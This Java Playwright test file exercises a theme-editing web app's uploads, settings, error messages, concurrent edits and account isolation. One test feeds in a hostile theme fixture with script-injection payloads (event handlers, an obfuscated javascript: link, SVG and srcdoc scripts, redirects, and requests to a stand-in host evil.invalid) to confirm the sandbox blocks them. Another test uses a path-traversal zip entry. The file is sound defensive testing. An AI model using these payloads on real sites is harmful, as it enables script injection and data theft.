package org.calmpalette.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.LoadState;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import org.calmpalette.core.intake.ThemeZip;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Themes that nobody prepared, and those that mean harm. */
@Order(2)
class StrangerTest {
    private final Running running = Running.get();

    @TempDir
    Path folder;

    private Path file(String name, byte[] bytes) throws IOException {
        return Files.write(folder.resolve(name), bytes);
    }

    private Path zip(String name, String... pathsAndTexts) throws IOException {
        TreeMap<String, byte[]> files = new TreeMap<>();
        for (int i = 0; i < pathsAndTexts.length; i += 2) {
            files.put(pathsAndTexts[i], pathsAndTexts[i + 1].getBytes(StandardCharsets.UTF_8));
        }
        try (OutputStream out = Files.newOutputStream(folder.resolve(name))) {
            ThemeZip.write(org.calmpalette.core.theme.ThemeFiles.of(files), out);
        }
        return folder.resolve(name);
    }

    /** A page that comes slowly still comes: who waits for a work does not start the way to it again and again. */
    @Test
    void whoWasToldWhereToGoAsksNoMore() {
        Page page = running.maker();
        AtomicInteger asked = new AtomicInteger();
        // Nothing may be evaluated in a page that is on its way, so it tells by itself.
        AtomicInteger wanted = new AtomicInteger();
        page.onConsoleMessage(m -> wanted.addAndGet(m.text().equals("wants to ask") ? 1 : 0));
        page.addInitScript("document.addEventListener('htmx:beforeRequest', () => console.log('wants to ask'))");
        page.route(
                "**/told/waiting",
                route -> route.fulfill(new Route.FulfillOptions()
                        .setContentType("text/html")
                        .setBody("<script src=/webjars/htmx.org/dist/htmx.min.js defer></script>"
                                + "<script type=module src=/assets/page.js></script>"
                                + "<p hx-get=/told/progress hx-trigger='every 50ms'>Reading</p>")));
        page.route(
                "**/told/progress",
                route -> route.fulfill(new Route.FulfillOptions()
                        .setBody("")
                        .setHeaders(
                                asked.incrementAndGet() < 3
                                        ? Map.of()
                                        : Map.of("HX-Redirect", running.address + "/told/slow"))));
        List<Route> held = new ArrayList<>();
        page.route("**/told/slow", held::add);
        page.navigate(running.address + "/told/waiting");
        page.waitForCondition(() -> !held.isEmpty());
        page.waitForCondition(() -> wanted.get() >= 8);
        assertThat(asked).hasValue(3);
        assertThat(held).hasSize(1);
        held.get(0)
                .fulfill(new Route.FulfillOptions().setContentType("text/html").setBody("<h1>There</h1>"));
        page.waitForURL("**/told/slow");
    }

    /** Steps 2 to 5 on Bootstrap 5.3.8's published stylesheet, from its WebJar. */
    @Test
    void theLinkColourOfAFrameworkIsLifted() throws IOException {
        byte[] published;
        try (InputStream in =
                getClass().getResourceAsStream("/META-INF/resources/webjars/bootstrap/5.3.8/css/bootstrap.css")) {
            published = in.readAllBytes();
        }
        Page page = running.maker();
        Running.bringIn(page, running.address, file("bootstrap.css", published));
        String theme = page.url().replace("/survey", "");
        page.navigate(theme + "/survey?row=%230d6efd");
        // A page that has measured itself comes anew, with other frames.
        page.waitForCondition(() -> {
            try {
                return Running.style(Running.frames(page).get(2), "#text a", "color")
                        .equals("rgb(13, 110, 253)");
            } catch (PlaywrightException anew) {
                return false;
            }
        });
        page.click("text=All or none");
        for (String use : List.of("{ --bs-link-color: ", "{ --bs-link-color-rgb: ")) {
            page.locator("#card .uses li", new Page.LocatorOptions().setHasText(use))
                    .locator("input")
                    .first()
                    .check();
        }
        page.fill("#f-label", "Links");
        page.fill("#f-key", "link-text");
        page.click("#card >> text=Any colour");
        page.click("text=Make it a setting");
        page.waitForURL("**/settings?key=link-text");
        page.fill("#card [name=v]", "#7a1f3d");
        for (Frame f : Running.frames(page)) {
            page.waitForCondition(() -> Running.style(f, "#text a", "color").equals("rgb(122, 31, 61)"));
            assertThat(Running.style(f, "#classes .btn-primary", "backgroundColor"))
                    .isEqualTo("rgb(13, 110, 253)");
        }
        page.click("#card >> text=Save");
        page.waitForSelector("#notice >> text=default #0d6efd to #7a1f3d");

        Path zip = folder.resolve("handed.zip");
        Running.handover(page, theme + "/handover");
        page.waitForDownload(() -> page.click("text=Download with the defaults"))
                .saveAs(zip);
        TreeMap<String, byte[]> handed = new TreeMap<>();
        ThemeZip.read(zip, "handed.zip", handed::put, (d, t, p) -> {});
        // Putting the two values back has to give the published bytes.
        String text = new String(handed.get("bootstrap.css"), StandardCharsets.UTF_8);
        assertThat(text.replace("var(--link-text, #0d6efd)", "#0d6efd")
                        .replace("var(--link-text-rgb, 13, 110, 253)", "13, 110, 253"))
                .isEqualTo(new String(published, StandardCharsets.UTF_8))
                .isNotEqualTo(text);
    }

    @Test
    void nothingOfAHostileThemeRunsLeavesItsFrameOrReachesUs() throws IOException {
        Page page = running.maker();
        List<Request> asked = new ArrayList<>();
        page.context().onRequest(asked::add);
        Running.bringIn(
                page,
                running.address,
                zip(
                        "hostile.zip",
                        "index.html",
                        """
        <!doctype html><html><head><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/r">
        <meta http-equiv="Content-Security-Policy" content="script-src *"><link rel=stylesheet href=a.css>
        <script nonce="x">window.top.hacked = window.hacked = 1</script><script src="evil.js"></script></head>
        <body onload="window.hacked=2"><h1 onclick="window.hacked=3">x</h1><img src="nothing.png" onerror="window.hacked=4">
        <a id=out href="https://evil.invalid/a">out</a> <a id=js href=" java\tscript:window.hacked=5">js</a> <a id=top target=_top href="/themes">top</a>
        <a id=next href="two.html">next</a>
        <iframe srcdoc="<script>parent.hacked=6</script>"></iframe><object data="evil.svg"></object>
        <svg><script>window.hacked=7</script><a xlink:href="javascript:window.hacked=8"><text y=20>svg</text></a></svg>
        <form action="https://evil.invalid/f"><button id=send>send</button></form>
        <img src="evil.svg"><p style="background:url(https://evil.invalid/p.png)">styled</p></body></html>""",
                        "two.html",
                        "<h1>two</h1>",
                        "evil.js",
                        "window.hacked = 9",
                        "a.css",
                        "@import 'https://evil.invalid/i.css'; h1{color:#123}",
                        "evil.svg",
                        "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('https://evil.invalid/s')</script></svg>"));
        // In the survey a click asks about a part; on the desk of settings links are followed.
        page.navigate(page.url().replaceFirst("/survey.*", "/settings"));
        Frame frame = Running.frames(page).get(2);
        for (String id : List.of("#out", "#js", "#top", "#send")) {
            frame.dispatchEvent(id, "click");
        }
        // What a click sets off has begun once the page has been drawn twice more.
        frame.evaluate(TWICE_DRAWN);
        page.evaluate(TWICE_DRAWN);
        assertThat(frame.evaluate("() => window.hacked ?? null")).isNull();
        assertThat(page.evaluate("() => window.hacked ?? null")).isNull();
        assertThat(page.url()).contains("/settings");
        assertNothingWentOut(asked);
        assertThat(frame.evaluate("() => { try { return top.document.title } catch (e) { return e.name } }"))
                .isEqualTo("SecurityError");
        assertThat(frame.evaluate("() => { try { return document.cookie } catch (e) { return e.name } }"))
                .isEqualTo("SecurityError");
        assertThat(frame.evaluate("() => self.origin")).isEqualTo("null");
        // Links inside the theme are followed by the desk, in all frames at once.
        frame.dispatchEvent("#next", "click");
        page.waitForCondition(
                () -> Running.frames(page).stream().allMatch(f -> f.url().endsWith("two.html")));

        // Opened by itself, outside of any frame of ours, the page still runs nothing and has no origin of ours.
        page.navigate(frame.url().replace("two.html", "index.html"));
        assertThat(page.evaluate("() => self.origin")).isEqualTo("null");
        assertThat(page.evaluate("() => window.hacked ?? null")).isNull();
        page.navigate(frame.url().replace("two.html", "evil.svg"));
        page.waitForLoadState(LoadState.NETWORKIDLE);
        assertNothingWentOut(asked);
    }

    private static final String TWICE_DRAWN =
            "() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(r))))";

    /** What a page asks for elsewhere is stopped by its Content-Security-Policy before it leaves the browser. */
    private static void assertNothingWentOut(List<Request> asked) {
        assertThat(asked.stream().filter(r -> r.url().contains("evil.invalid")).map(r -> r.url() + " " + r.failure()))
                .isNotEmpty()
                .allMatch(r -> r.endsWith(" csp"));
    }

    @Test
    void badInputGetsAMessageThatNamesTheFileAndTheMend() throws IOException {
        Page page = running.maker();
        int before = themes(page);
        refused(page, zip("climb.zip", "a/../../x.html", "x"), "climbs", "without “..”");
        refused(
                page,
                file("cut.zip", "PK\u0003\u0004 not a zip".getBytes(StandardCharsets.ISO_8859_1)),
                "cut.zip",
                "cut off");
        refused(page, zip("none.zip", "readme.txt", "x"), "none.zip", "no page");
        refused(
                page,
                zip("json.zip", "index.html", "<p>", "palette.json", "{\n \"settings\": [\n"),
                "palette.json, line",
                "JSON");
        refused(
                page,
                file("wide.css", "a{color:red}b{color:blue}".getBytes(StandardCharsets.UTF_16LE)),
                "wide.css, line 1",
                "UTF-8");
        refused(page, file("open.css", "a b c".getBytes(StandardCharsets.UTF_8)), "open.css", "Line 1");
        refused(page, file("photo.jpg", new byte[] {(byte) 0xff, (byte) 0xd8}), "photo.jpg", ".css");
        assertThat(themes(page)).isEqualTo(before);

        Running.bringIn(
                page,
                running.address,
                file(
                        "broken.css",
                        "a { color: red; }\nb { color: blue;\n\nc { color: green }".getBytes(StandardCharsets.UTF_8)));
        page.click("text=Findings");
        assertThat(page.locator(".ledger").innerText()).contains("broken.css:2").contains("never closed");

        page.click("text=Colours");
        page.fill("#f-key", "no key");
        page.click("text=Make it a setting");
        page.waitForSelector("#notice >> text=cannot be the name of a custom property");
        assertThat(page.inputValue("#f-key")).as("what was entered stays").isEqualTo("no key");
        page.fill("#f-key", "fine");
        // It is tried when one leaves the field.
        page.press("#f-key", "Tab");
        page.waitForSelector("#card [data-reach] >> text=Tried with");
        page.click("#card >> text=Swatches");
        page.fill("#card [data-swatch-lines]", "#ff0000\nrgb(1,2");
        page.click("text=Make it a setting");
        page.waitForSelector("#notice >> text=Swatches, line 2: “rgb(1,2” is not a colour");

        Running.bringIn(
                page,
                running.address,
                zip(
                        "kind.zip",
                        "index.html",
                        "<p>",
                        "palette.json",
                        "{\"places\":[{\"key\":\"p\",\"label\":\"P\"}],\n\"settings\":[\n"
                                + "{\"key\":\"a\",\"label\":\"A\",\"kind\":\"mood\"},\n{\"key\":\"b\",\"label\":\"B\",\"kind\":\"color\",\"place\":\"p\",\"default\":\"red\"}]}"));
        page.navigate(page.url().replace("/survey", "/settings"));
        assertThat(page.locator(".faults").innerText())
                .contains("palette.json, line 3, settings[0].kind")
                .contains("mood")
                .contains("Write one of color");
        assertThat(page.locator("tr.pick").count()).isEqualTo(1);
    }

    @Test
    void stylesheetsWithoutAPageGetASpecimenAndASiteWithoutAnIndexItsFirstPage() throws IOException {
        Page page = running.maker();
        Running.bringIn(page, running.address, zip("sheets.zip", "css/a.css", "h1 { color: #123456 }"));
        assertThat(Running.style(Running.frames(page).get(0), "h1", "color")).isEqualTo("rgb(18, 52, 86)");
        Running.bringIn(page, running.address, zip("noindex.zip", "start here.html", "<h1>Here</h1>"));
        Running.handover(page, page.url().replace("/survey", "/handover"));
        page.fill("#site-name", "No Index");
        page.click("text=Mine for now");
        page.click("text=Make the site");
        page.click("text=Open it");
        Running.goLive(page);
        page.navigate(running.address + "/at/no-index/");
        assertThat(page.locator("h1").innerText()).isEqualTo("Here");
    }

    private int themes(Page page) {
        page.navigate(running.address + "/themes");
        return page.locator(".theme-list li").count();
    }

    private void refused(Page page, Path file, String... words) {
        Running.bringIn(page, running.address, file);
        assertThat(page.locator("main").innerText()).contains(words);
    }

    @Test
    void whoeverComesSecondIsToldAndLosesNothing() throws IOException {
        Page first = running.maker();
        Running.bringIn(
                first,
                running.address,
                zip(
                        "two.zip",
                        "index.html",
                        "<link rel=stylesheet href=a.css><p><b>x</b>",
                        "a.css",
                        "p{color:red}b{background:linear-gradient(red,blue)}"));
        String survey = first.url();
        Page second = running.maker();
        second.navigate(survey + "?row=%230000ff");
        first.navigate(survey + "?row=%23ff0000");
        first.fill("#f-key", "one");
        first.click("text=Make it a setting");
        first.waitForURL("**/settings?key=one");
        second.fill("#f-label", "Second's own words");
        second.fill("#f-key", "two");
        second.click("text=Make it a setting");
        second.waitForSelector("#notice >> text=has changed since you opened this page");
        assertThat(second.inputValue("#f-label")).isEqualTo("Second's own words");
        second.click("text=Make my change on top");
        // The first change moved what the second one had chosen, so it is asked to choose anew instead of guessing.
        second.waitForSelector("#notice >> text=no longer where they were");
        second.navigate(survey + "?row=%230000ff");
        second.waitForSelector("text=What there is to choose from has changed since");
        assertThat(second.inputValue("#f-label")).isEqualTo("Second's own words");
        second.click("text=Make it a setting");
        second.waitForURL("**/settings?key=two");
        assertThat(second.locator("tr.pick").count()).isEqualTo(2);
    }

    @Test
    void roomsAreApart() throws IOException {
        Page maker = running.maker();
        Running.bringIn(maker, running.address, zip("mine.zip", "index.html", "<p>mine"));
        String theme = maker.url().replace("/survey", "");
        Running.handover(maker, theme + "/handover");
        maker.fill("#site-name", "Otter Quay Camp");
        maker.click("text=Make the site");
        String invitation = maker.locator("a:text-is('Invitation')").getAttribute("href");
        Page guest = running.visitor(1280, 800);
        guest.navigate(running.address + invitation);
        guest.fill("#name", "Mara Vey");
        guest.fill("#signIn", "mara");
        guest.fill("#password", "a-long-password");
        guest.click("text=Make the account");
        guest.waitForURL("**/sites/otter-quay-camp");
        assertThat(guest.navigate(running.address + "/sites/sallowmere-ferries").status())
                .isEqualTo(404);
        assertThat(guest.navigate(theme + "/survey").status()).isEqualTo(403);
        assertThat(guest.navigate(running.address + invitation).status())
                .as("an invitation holds once")
                .isEqualTo(422);
        assertThat(maker.navigate(running.address + "/sites/otter-quay-camp").status())
                .as("a site that was given away")
                .isEqualTo(404);
        Page nobody = running.visitor(1280, 800);
        nobody.navigate(theme + "/survey");
        assertThat(nobody.url()).endsWith("/sign-in");
        String frame = running.address + "/frame/t1-zzzzzz-" + "A".repeat(43) + "/index.html";
        assertThat(nobody.navigate(frame).status()).isEqualTo(404);
    }
}
